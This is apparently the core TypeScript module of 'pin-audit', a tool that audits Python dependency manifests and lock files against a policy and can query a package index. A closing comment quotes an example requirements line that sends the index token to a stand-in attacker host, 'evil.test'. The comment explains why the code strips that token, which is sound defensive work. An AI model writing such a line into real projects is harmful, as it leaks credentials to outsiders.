// The pipeline: discover -> parse -> model -> policy -> Report. Pure in the middle; the only I/O is reading the
// audited tree (and the policy file), so the CLI and the action run exactly the same audit.
import { posix } from "node:path";
import { isConstraintsFileName } from "./discover/classify-file.js";
import {
	compareStrings,
	type DiscoveredFile,
	discoverFiles,
} from "./discover/discover-files.js";
import { groupProjects, type ParsedFile } from "./discover/group-projects.js";
import { readTextFile } from "./discover/read-text-file.js";
import { createRequirementsReader } from "./discover/resolve-requirements.js";
import { gatherIndexFacts } from "./index/gather-index-facts.js";
import {
	INDEX_TOKEN_ENV,
	maskSecrets,
	redactUrl,
} from "./index/index-endpoint.js";
import type { Diagnostic, Finding, Project } from "./model/types.js";
import { parsePoetryLock } from "./parse/poetry-lock.js";
import { parsePylock } from "./parse/pylock.js";
import { parsePyproject } from "./parse/pyproject.js";
import { parseUvLock } from "./parse/uv-lock.js";
import { evaluatePolicy } from "./policy/evaluate-policy.js";
import { loadPolicy, type PolicySource } from "./policy/load-policy.js";
import { TOOL_NAME, TOOL_VERSION } from "./version.js";

export interface AuditOptions {
	/** Directory to audit. */
	root: string;
	include?: readonly string[];
	exclude?: readonly string[];
	/**
	 * Environment for `${VAR}` in requirements files (pip reads os.environ) and the index client's proxy settings.
	 * pin-audit's own credential variable is never expanded into a file's text.
	 */
	env?: Readonly<Record<string, string | undefined>>;
	/** Credential for the configured index (`indexUrl` or the policy's `index-url`) only. */
	indexToken?: string | null;
	/** Environment the index client reads its proxy settings from (HTTPS_PROXY, NO_PROXY); default: `env`. */
	networkEnv?: Readonly<Record<string, string | undefined>>;
	/** Policy file; relative paths are relative to root. Default: pin-audit.toml or [tool.pin-audit]. */
	policyPath?: string;
	/** The date exceptions' `until` is compared with. */
	today?: Date;
	/**
	 * Never contact a package index; checks that need one use locks and the shipped offline knowledge.
	 * Default: true here (a library call stays pure unless asked); the CLI and the action default to online.
	 */
	offline?: boolean;
	/** Package index to query (PyPI JSON API or a PEP 691 Simple API); default: the project's configured index, else PyPI. */
	indexUrl?: string;
	/** Directory for the on-disk index cache (keep it with actions/cache); none when unset. */
	cacheDir?: string;
}

export interface ReportPolicy {
	source: PolicySource["kind"];
	file: string | null;
	presets: string[];
	description: string;
}

export interface ReportSummary {
	projects: number;
	files: number;
	requirements: number;
	locked: number;
	errors: number;
	warnings: number;
	notices: number;
}

export interface Report {
	schemaVersion: 1;
	tool: { name: string; version: string };
	root: string;
	policy: ReportPolicy;
	projects: Project[];
	findings: Finding[];
	summary: ReportSummary;
}

/** How many files are read and parsed at once. */
const READ_CONCURRENCY = 16;

export async function auditRepository(options: AuditOptions): Promise<Report> {
	// The policy first: a broken policy file is a configuration error, reported before any work is done.
	const loaded = await loadPolicy(options.root, options.policyPath);
	const discovery = await discoverFiles(options.root, options);
	const findings: Finding[] = [];
	const fileDiagnostics = new Map<string, Diagnostic[]>();
	const addDiagnostics = (file: string, diagnostics: readonly Diagnostic[]) => {
		if (diagnostics.length === 0) return;
		const list = fileDiagnostics.get(file) ?? [];
		list.push(...diagnostics);
		fileDiagnostics.set(file, list);
	};

	const reader = createRequirementsReader(
		discovery.rootReal,
		withoutCredential(options.env ?? {}),
	);
	const parsed = await mapConcurrently(
		discovery.files,
		READ_CONCURRENCY,
		async (file): Promise<ParsedFile | null> => {
			if (file.kind === "requirements") {
				const resolved = await reader.resolve(
					file.path,
					isConstraintsFileName(file.path),
				);
				for (const [path, diagnostics] of resolved.diagnostics)
					addDiagnostics(path, diagnostics);
				return { file, kind: "requirements", value: resolved };
			}
			const read = await readTextFile(file.absPath);
			if (!read.ok) {
				addDiagnostics(file.path, [read.diagnostic]);
				return null;
			}
			return parseManifestOrLock(file, read.text, addDiagnostics);
		},
	);

	const projects = groupProjects(
		discovery.files,
		parsed.filter((p): p is ParsedFile => p !== null),
		(file, diagnostic) => addDiagnostics(file, [diagnostic]),
	);
	const projectPaths = new Set(projects.map((p) => p.path));

	for (const issue of discovery.issues) {
		findings.push({
			rule: "discovery",
			severity: issue.severity,
			project: nearestProject(issue.path, projectPaths),
			package: null,
			file: issue.path,
			line: null,
			message: issue.message,
		});
	}
	for (const [file, diagnostics] of fileDiagnostics) {
		const seen = new Set<string>();
		for (const d of diagnostics) {
			const key = `${d.severity}\0${d.line}\0${d.message}`;
			if (seen.has(key)) continue;
			seen.add(key);
			findings.push({
				rule: "invalid-file",
				severity: d.severity,
				project: nearestProject(posix.dirname(file), projectPaths),
				package: null,
				file,
				line: d.line,
				message: d.message,
			});
		}
	}

	// The only network I/O of an audit, all of it before evaluation, so the rules stay pure.
	const gathered = await gatherIndexFacts(projects, {
		offline: options.offline ?? true,
		indexUrl: options.indexUrl ?? loaded.policy.indexUrl,
		cacheDir: options.cacheDir ?? null,
		env: options.networkEnv ?? options.env ?? {},
		token: options.indexToken ?? null,
	});
	const evaluated = evaluatePolicy(projects, loaded.policy, {
		today: options.today ?? new Date(),
		index: gathered.facts,
	});
	// Defence in depth: no message may carry an index credential, whatever echoed it.
	findings.push(
		...evaluated.map((f) => ({
			...f,
			message: maskSecrets(redactUrl(f.message), gathered.secrets),
		})),
	);
	findings.sort(compareFindings);
	const policy: ReportPolicy = {
		source: loaded.source.kind,
		file: loaded.source.file,
		presets: loaded.presets,
		description: loaded.description,
	};
	return buildReport(
		options.root,
		policy,
		projects,
		findings,
		discovery.files.length,
	);
}

function parseManifestOrLock(
	file: DiscoveredFile,
	text: string,
	addDiagnostics: (file: string, diagnostics: readonly Diagnostic[]) => void,
): ParsedFile {
	switch (file.kind) {
		case "pyproject": {
			const result = parsePyproject(text, file.path);
			addDiagnostics(file.path, result.diagnostics);
			return { file, kind: "pyproject", value: result.value };
		}
		case "uv-lock": {
			const result = parseUvLock(text, file.path);
			addDiagnostics(file.path, result.diagnostics);
			return { file, kind: "uv-lock", value: result.value };
		}
		case "pylock": {
			const result = parsePylock(text, file.path);
			addDiagnostics(file.path, result.diagnostics);
			return { file, kind: "pylock", value: result.value };
		}
		case "poetry-lock": {
			const result = parsePoetryLock(text, file.path);
			addDiagnostics(file.path, result.diagnostics);
			return { file, kind: "poetry-lock", value: result.value };
		}
		case "requirements":
			throw new Error("requirements files are resolved with their includes");
	}
}

function nearestProject(
	path: string,
	projectPaths: ReadonlySet<string>,
): string | null {
	let dir = path === "" ? "." : path;
	for (;;) {
		if (projectPaths.has(dir)) return dir;
		if (dir === ".") return null;
		dir = posix.dirname(dir);
	}
}

const SEVERITY_ORDER = { error: 0, warning: 1, notice: 2 } as const;

export function compareFindings(a: Finding, b: Finding): number {
	return (
		SEVERITY_ORDER[a.severity] - SEVERITY_ORDER[b.severity] ||
		compareStrings(a.file ?? "", b.file ?? "") ||
		(a.line ?? 0) - (b.line ?? 0) ||
		compareStrings(a.rule, b.rule) ||
		compareStrings(a.package ?? "", b.package ?? "") ||
		compareStrings(a.message, b.message)
	);
}

export function buildReport(
	root: string,
	policy: ReportPolicy,
	projects: Project[],
	findings: Finding[],
	fileCount: number,
): Report {
	const count = (severity: Finding["severity"]) =>
		findings.filter((f) => f.severity === severity).length;
	return {
		schemaVersion: 1,
		tool: { name: TOOL_NAME, version: TOOL_VERSION },
		root,
		policy,
		projects,
		findings,
		summary: {
			projects: projects.length,
			files: fileCount,
			requirements: projects.reduce((n, p) => n + p.requirements.length, 0),
			locked: projects.reduce((n, p) => n + p.locked.length, 0),
			errors: count("error"),
			warnings: count("warning"),
			notices: count("notice"),
		},
	};
}

async function mapConcurrently<T, R>(
	items: readonly T[],
	limit: number,
	fn: (item: T) => Promise<R>,
): Promise<R[]> {
	const results: R[] = new Array(items.length);
	let next = 0;
	const workers = Array.from(
		{ length: Math.min(limit, items.length) },
		async () => {
			while (next < items.length) {
				const index = next++;
				results[index] = await fn(items[index] as T);
			}
		},
	);
	await Promise.all(workers);
	return results;
}

// A requirements file could otherwise write `--index-url https://evil.test/${PIN_AUDIT_INDEX_TOKEN}/simple`.
function withoutCredential(
	env: Readonly<Record<string, string | undefined>>,
): Readonly<Record<string, string | undefined>> {
	if (env[INDEX_TOKEN_ENV] === undefined) return env;
	const { [INDEX_TOKEN_ENV]: _credential, ...rest } = env;
	return rest;
}
